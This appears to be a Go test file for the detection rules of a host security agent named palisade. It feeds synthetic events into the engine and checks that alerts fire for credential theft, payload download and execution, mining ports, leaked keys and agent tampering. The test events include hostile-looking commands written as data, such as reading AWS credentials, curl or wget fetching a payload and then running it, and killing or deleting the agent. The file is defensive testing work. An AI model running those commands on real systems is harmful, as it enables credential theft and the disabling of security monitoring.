package rules

import (
	"errors"
	"io"
	"log/slog"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/palisade-sec/palisade/agent/hunt"
	palisadev1 "github.com/palisade-sec/palisade/proto/palisade/v1"
)

func quietLogger() *slog.Logger { return slog.New(slog.NewTextHandler(io.Discard, nil)) }

// newTestEngine is an engine with the default pack applied. ProcRoot
// points at an empty directory so synthetic pids never reach real /proc
// entries (and /proc-derived fields are "nothing known").
func newTestEngine(t testing.TB, cfg Config) *Engine {
	t.Helper()
	if cfg.Logger == nil {
		cfg.Logger = quietLogger()
	}
	if cfg.ProcRoot == "" {
		cfg.ProcRoot = t.TempDir()
	}
	if cfg.Scope == "" {
		// Synthetic pids may exist on this machine: a scope no process is
		// in makes every kill a refusal.
		cfg.Scope = "/sys/fs/cgroup/unified/palisade-test-no-such-scope"
		cfg.CgroupRoot = "/sys/fs/cgroup/unified"
	}
	e, err := NewEngine(cfg)
	if err != nil {
		t.Fatal(err)
	}
	rs, err := DefaultRules(palisadev1.Mode_MODE_UNSPECIFIED)
	if err != nil {
		t.Fatal(err)
	}
	if err := e.Apply(rs); err != nil {
		t.Fatal(err)
	}
	return e
}

func proc(pid uint32, exe string, argv ...string) *palisadev1.Process {
	return &palisadev1.Process{Pid: pid, Ppid: 1, ExePath: exe, Argv: argv, Comm: filepath.Base(exe),
		Ancestry: []*palisadev1.Ancestor{{Pid: 100, ExePath: "/usr/bin/bash", Argv: []string{"bash"}}, {Pid: 1, ExePath: "/sbin/init"}}}
}

func execEv(p *palisadev1.Process) *palisadev1.Event {
	return &palisadev1.Event{Process: p, Kind: &palisadev1.Event_Exec{Exec: &palisadev1.ExecEvent{Filename: p.ExePath, Verdict: palisadev1.Verdict_VERDICT_ALLOWED}}}
}

func fileEv(p *palisadev1.Process, path string, v palisadev1.Verdict, honey bool) *palisadev1.Event {
	return &palisadev1.Event{Process: p, Kind: &palisadev1.Event_FileOpen{FileOpen: &palisadev1.FileOpenEvent{Path: path, Verdict: v, Honeytoken: honey, Rule: "protected_files[0]"}}}
}

func connEv(p *palisadev1.Process, addr string, port uint32, v palisadev1.Verdict, reason string) *palisadev1.Event {
	return &palisadev1.Event{Process: p, Kind: &palisadev1.Event_Connect{Connect: &palisadev1.ConnectEvent{Protocol: "tcp", DstAddr: addr, DstPort: port, Verdict: v, Reason: reason}}}
}

func ruleNames(as []*palisadev1.Alert) []string {
	var out []string
	for _, a := range as {
		out = append(out, a.GetRule())
	}
	return out
}

const testKey = "AKIAIOSFODNN7EXAMPLE"

// TestDefaultRules_Synthetic checks every default rule on synthetic
// events, positive and negative (the real-process tests are in
// pack_test.go; these add cases the kernel cannot easily produce).
func TestDefaultRules_Synthetic(t *testing.T) {
	e := newTestEngine(t, Config{Agent: AgentInfo{PID: 4242, Exe: "/usr/bin/palisade-agent", Paths: []string{"/etc/palisade", "/var/lib/palisade-agent", "/sys/fs/bpf/palisade"}}})
	if err := e.SetIOCs([]string{"203.0.113.7", "198.51.100.0/24"}); err != nil {
		t.Fatal(err)
	}
	ks, err := hunt.NewKeySet([]hunt.Key{{ID: testKey}})
	if err != nil {
		t.Fatal(err)
	}
	e.SetLeakedKeys(ks)
	bash := proc(10, "/usr/bin/bash", "bash")
	cat := proc(11, "/usr/bin/cat", "cat", "/root/.aws/credentials")
	cases := []struct {
		name string
		ev   *palisadev1.Event
		want string // rule name, "" for none
	}{
		{"cred killed", fileEv(cat, "/root/.aws/credentials", palisadev1.Verdict_VERDICT_KILLED, false), "credential-file-unallowed-reader"},
		{"cred audited", fileEv(cat, "/root/.aws/credentials", palisadev1.Verdict_VERDICT_AUDITED, false), "credential-file-unallowed-reader"},
		{"cred allowed reader", fileEv(cat, "/root/.aws/credentials", palisadev1.Verdict_VERDICT_ALLOWED, false), ""},
		{"metadata denied", connEv(cat, "100.100.100.200", 80, palisadev1.Verdict_VERDICT_DENIED, "metadata"), "metadata-credential-fetch"},
		{"metadata allowed client", connEv(cat, "100.100.100.200", 80, palisadev1.Verdict_VERDICT_ALLOWED, ""), ""},
		{"honeytoken", fileEv(cat, "/root/.aws/credentials.old", palisadev1.Verdict_VERDICT_KILLED, true), "honeytoken-opened"},
		{"exec tmp", execEv(proc(12, "/tmp/x/miner")), "exec-from-writable-location"},
		{"exec dev shm", execEv(proc(12, "/dev/shm/m")), "exec-from-writable-location"},
		{"exec memfd", execEv(proc(12, "/memfd:payload")), "exec-from-writable-location"},
		{"exec usr bin", execEv(proc(12, "/usr/bin/ls", "ls")), ""},
		{"ioc", connEv(bash, "198.51.100.9", 443, palisadev1.Verdict_VERDICT_ALLOWED, ""), "connect-ioc"},
		{"not ioc", connEv(bash, "192.0.2.1", 443, palisadev1.Verdict_VERDICT_ALLOWED, ""), ""},
		{"mining port", connEv(bash, "192.0.2.1", 14444, palisadev1.Verdict_VERDICT_ALLOWED, ""), "connect-mining-pool-port"},
		{"mining port denied", connEv(bash, "192.0.2.1", 14444, palisadev1.Verdict_VERDICT_DENIED, "deny_cidr"), ""},
		{"leaked key argv", execEv(proc(13, "/usr/bin/aws", "aws", "--access-key", testKey)), "leaked-key-in-process"},
		{"other key argv", execEv(proc(13, "/usr/bin/aws", "aws", "--access-key", "AKIAIOSFODNN7EXAMPLF")), ""},
		{"key inside longer token", execEv(proc(13, "/usr/bin/aws", "aws", "X"+testKey)), ""},
		{"tamper rm config", execEv(proc(14, "/usr/bin/rm", "rm", "-rf", "/etc/palisade/agent.yaml")), "agent-tampering"},
		{"tamper pins", execEv(proc(14, "/usr/bin/rm", "rm", "-r", "/sys/fs/bpf/palisade")), "agent-tampering"},
		{"tamper kill pid", execEv(proc(14, "/usr/bin/kill", "kill", "-9", "4242")), "agent-tampering"},
		{"tamper pkill", execEv(proc(14, "/usr/bin/pkill", "pkill", "palisade-agent")), "agent-tampering"},
		{"no tamper kill other", execEv(proc(14, "/usr/bin/kill", "kill", "-9", "4243")), ""},
		{"no tamper similar path", execEv(proc(14, "/usr/bin/cat", "cat", "/etc/palisade-other/x")), ""},
		{"tamper file", fileEv(cat, "/var/lib/palisade-agent/identity.json", palisadev1.Verdict_VERDICT_AUDITED, false), "agent-tampering"},
		{"agent itself", fileEv(proc(4242, "/usr/bin/palisade-agent"), "/var/lib/palisade-agent/identity.json", palisadev1.Verdict_VERDICT_ALLOWED, false), ""},
		{"exit", &palisadev1.Event{Process: bash, Kind: &palisadev1.Event_Exit{Exit: &palisadev1.ExitEvent{}}}, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := ruleNames(e.Evaluate(c.ev))
			if c.want == "" && len(got) != 0 || c.want != "" && (len(got) != 1 || got[0] != c.want) {
				t.Fatalf("alerts %v, want [%s]", got, c.want)
			}
		})
	}
}

func TestDefaultRules_ExecAfterDownload(t *testing.T) {
	now := time.Unix(1700000000, 0)
	e := newTestEngine(t, Config{Now: func() time.Time { return now }})
	e.Evaluate(execEv(proc(20, "/usr/bin/curl", "curl", "-s", "-o", "/opt/app/payload", "http://203.0.113.9/p")))
	e.Evaluate(execEv(proc(21, "/usr/bin/wget", "wget", "-q", "--output-document=/srv/x", "http://203.0.113.9/p")))
	got := ruleNames(e.Evaluate(execEv(proc(22, "/opt/app/payload"))))
	if len(got) != 1 || got[0] != "exec-downloaded-binary" {
		t.Fatalf("alerts %v", got)
	}
	if got := ruleNames(e.Evaluate(execEv(proc(23, "/srv/x")))); len(got) != 1 {
		t.Fatalf("wget output: alerts %v", got)
	}
	now = now.Add(time.Hour) // outside the window
	if got := ruleNames(e.Evaluate(execEv(proc(22, "/opt/app/payload")))); len(got) != 0 {
		t.Fatalf("stale download: alerts %v", got)
	}
}

func TestDefaultRules_ExeDeletedFromProc(t *testing.T) {
	root := t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, "77"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/opt/x/daemon (deleted)", filepath.Join(root, "77", "exe")); err != nil {
		t.Fatal(err)
	}
	e := newTestEngine(t, Config{ProcRoot: root})
	as := e.Evaluate(execEv(proc(77, "/opt/x/daemon")))
	if got := ruleNames(as); len(got) != 1 || got[0] != "exec-from-writable-location" || as[0].Labels["exe_deleted"] != "true" {
		t.Fatalf("alerts %v", as)
	}
	if got := ruleNames(e.Evaluate(execEv(proc(78, "/opt/x/daemon")))); len(got) != 0 {
		t.Fatalf("not deleted: alerts %v", got)
	}
}

func TestApply_InvalidRuleKeepsPreviousSet(t *testing.T) {
	e := newTestEngine(t, Config{})
	before := len(e.Rules())
	err := e.Apply([]*palisadev1.Rule{
		{Name: "ok", Condition: `kind == "exec"`, Severity: "low", SourceFile: "p.yaml", SourceLine: 3},
		{Name: "bad-field", Condition: `process.no_such_field == 1`, Severity: "low", SourceFile: "p.yaml", SourceLine: 9},
		{Name: "not-bool", Condition: `process.pid + 1`, Severity: "low", SourceFile: "p.yaml", SourceLine: 14},
		{Name: "syntax", Condition: `kind == `, Severity: "low", SourceFile: "p.yaml", SourceLine: 20},
	})
	var ae *ApplyError
	if !errors.As(err, &ae) || len(ae.Problems) != 3 {
		t.Fatalf("err = %v", err)
	}
	for i, want := range []struct {
		rule string
		line int32
		msg  string
	}{{"bad-field", 9, "no_such_field"}, {"not-bool", 14, "want bool"}, {"syntax", 20, "Syntax error"}} {
		p := ae.Problems[i]
		if p.Rule != want.rule || p.SourceFile != "p.yaml" || p.SourceLine != want.line || !strings.Contains(p.Err, want.msg) {
			t.Errorf("problem %d = %+v", i, p)
		}
	}
	if !strings.Contains(err.Error(), "p.yaml:9") {
		t.Errorf("error text %q lacks file:line", err)
	}
	if len(e.Rules()) != before {
		t.Fatalf("rule set changed on a failed apply: %d rules, want %d", len(e.Rules()), before)
	}
}

func TestApply_KindIndex(t *testing.T) {
	e := newTestEngine(t, Config{})
	set := e.set.Load()
	for k, want := range map[string][]string{
		"file":    {"credential-file-unallowed-reader", "honeytoken-opened", "agent-tampering"},
		"connect": {"metadata-credential-fetch", "connect-ioc", "connect-mining-pool-port"},
		"exit":    nil,
	} {
		var got []string
		for _, c := range set.byKind[k] {
			got = append(got, c.rule.GetName())
		}
		if strings.Join(got, ",") != strings.Join(want, ",") {
			t.Errorf("%s rules = %v, want %v", k, got, want)
		}
	}
}

func TestMerge_BundleOverridesDefaultByName(t *testing.T) {
	d, err := DefaultRules(palisadev1.Mode_MODE_AUDIT)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range d {
		if r.GetMode() != palisadev1.Mode_MODE_AUDIT || r.GetSourceFile() != DefaultRulesSource || r.GetSourceLine() == 0 {
			t.Fatalf("default rule %v", r)
		}
	}
	m := Merge(d, []*palisadev1.Rule{{Name: "reverse-shell", Condition: "false"}, {Name: "mine", Condition: "true"}})
	if len(m) != len(d)+1 || m[len(m)-1].GetName() != "mine" {
		t.Fatalf("merged %d rules", len(m))
	}
	for _, r := range m {
		if r.GetName() == "reverse-shell" && r.GetCondition() != "false" {
			t.Fatal("bundle rule did not replace the default")
		}
	}
}

func TestAlert_LeakedKeyMasked(t *testing.T) {
	e := newTestEngine(t, Config{HostID: "h1"})
	ks, _ := hunt.NewKeySet([]hunt.Key{{ID: testKey}})
	e.SetLeakedKeys(ks)
	ev := execEv(proc(13, "/usr/bin/aws", "aws", "--key="+testKey))
	as := e.Evaluate(ev)
	if len(as) != 1 {
		t.Fatalf("alerts %v", as)
	}
	a := as[0]
	if a.GetHostId() != "h1" || a.GetMode() != palisadev1.Mode_MODE_ENFORCE || a.GetResponse() != "kill" {
		t.Errorf("alert %v", a)
	}
	if strings.Contains(a.String(), testKey) {
		t.Fatalf("alert carries the full key: %v", a)
	}
	if a.Labels["leaked_key"] != "AKIA****MPLE in argv" {
		t.Errorf("labels %v", a.Labels)
	}
	// pid 13 does not exist under the test proc root: the kill fails, and says so.
	if a.ResponseTaken || a.ResponseError == "" {
		t.Errorf("response taken %v error %q", a.ResponseTaken, a.ResponseError)
	}
}

func TestBlockResponse(t *testing.T) {
	var got []netip.Prefix
	e := newTestEngine(t, Config{Block: func(p netip.Prefix) error { got = append(got, p); return nil }})
	_ = e.SetIOCs([]string{"203.0.113.7"})
	as := e.Evaluate(connEv(proc(5, "/usr/bin/nc"), "203.0.113.7", 80, palisadev1.Verdict_VERDICT_ALLOWED, ""))
	if len(as) != 1 || !as[0].ResponseTaken || len(got) != 1 || got[0].String() != "203.0.113.7/32" {
		t.Fatalf("alerts %v blocked %v", as, got)
	}
	// audit mode: reported, nothing blocked
	rs, _ := DefaultRules(palisadev1.Mode_MODE_AUDIT)
	if err := e.Apply(rs); err != nil {
		t.Fatal(err)
	}
	as = e.Evaluate(connEv(proc(5, "/usr/bin/nc"), "203.0.113.7", 80, palisadev1.Verdict_VERDICT_ALLOWED, ""))
	if len(as) != 1 || as[0].ResponseTaken || len(got) != 1 {
		t.Fatalf("audit: alerts %v blocked %v", as, got)
	}
}

func TestKillProcess_Refusals(t *testing.T) {
	e := newTestEngine(t, Config{ProcRoot: "/proc", Scope: "/sys/fs/cgroup/unified/palisade-test-no-such-scope"})
	if _, err := e.KillProcess(1, time.Time{}, false); err == nil {
		t.Fatal("killed pid 1")
	}
	if _, err := e.KillProcess(uint32(os.Getpid()), time.Time{}, false); err == nil {
		t.Fatal("killed itself")
	}
	_ = timestamppb.Now
}

// benchEvents is a mix of event kinds in rough production proportions:
// exec and exit of ordinary programs, connects, the odd protected open.
func benchEvents() []*palisadev1.Event {
	ls := proc(1000, "/usr/bin/ls", "ls", "-la", "/var/log")
	curlp := proc(1001, "/usr/bin/python3", "python3", "app.py")
	return []*palisadev1.Event{
		execEv(ls),
		{Process: ls, Kind: &palisadev1.Event_Exit{Exit: &palisadev1.ExitEvent{}}},
		connEv(curlp, "192.0.2.10", 443, palisadev1.Verdict_VERDICT_ALLOWED, ""),
		execEv(proc(1002, "/usr/bin/git", "git", "status")),
		{Process: ls, Kind: &palisadev1.Event_Exit{Exit: &palisadev1.ExitEvent{}}},
		connEv(curlp, "192.0.2.11", 5432, palisadev1.Verdict_VERDICT_ALLOWED, ""),
		fileEv(ls, "/root/.aws/credentials", palisadev1.Verdict_VERDICT_ALLOWED, false),
		connEv(curlp, "192.0.2.12", 80, palisadev1.Verdict_VERDICT_ALLOWED, ""),
	}
}

// BenchmarkEvaluate_DefaultPack: the cost per event of the default pack,
// over a mix of kinds and per kind; "keys" has IOCs and a leaked key
// configured (every exec then reads /proc/PID/environ, which here fails
// fast since the synthetic pids are not under the test's proc root).
//
//	go test ./agent/rules -run '^$' -bench Evaluate -benchmem -cpu 1
func BenchmarkEvaluate_DefaultPack(b *testing.B) {
	for _, keys := range []bool{false, true} {
		e := newTestEngine(b, Config{Agent: AgentInfo{PID: 4242, Exe: "/usr/bin/palisade-agent", Paths: []string{"/etc/palisade", "/var/lib/palisade-agent"}}})
		name := "default"
		if keys {
			name = "keys"
			_ = e.SetIOCs([]string{"203.0.113.7", "198.51.100.0/24"})
			ks, _ := hunt.NewKeySet([]hunt.Key{{ID: testKey}})
			e.SetLeakedKeys(ks)
		}
		evs := benchEvents()
		run := func(b *testing.B, evs []*palisadev1.Event) {
			b.ReportAllocs()
			for i := 0; b.Loop(); i++ {
				if as := e.Evaluate(evs[i%len(evs)]); len(as) != 0 {
					b.Fatalf("unexpected alert %v", as)
				}
			}
		}
		b.Run(name+"/mix", func(b *testing.B) { run(b, evs) })
		b.Run(name+"/exec", func(b *testing.B) { run(b, evs[:1]) })
		b.Run(name+"/connect", func(b *testing.B) { run(b, evs[2:3]) })
		b.Run(name+"/file", func(b *testing.B) { run(b, evs[6:7]) })
		b.Run(name+"/exit", func(b *testing.B) { run(b, evs[1:2]) })
	}
}
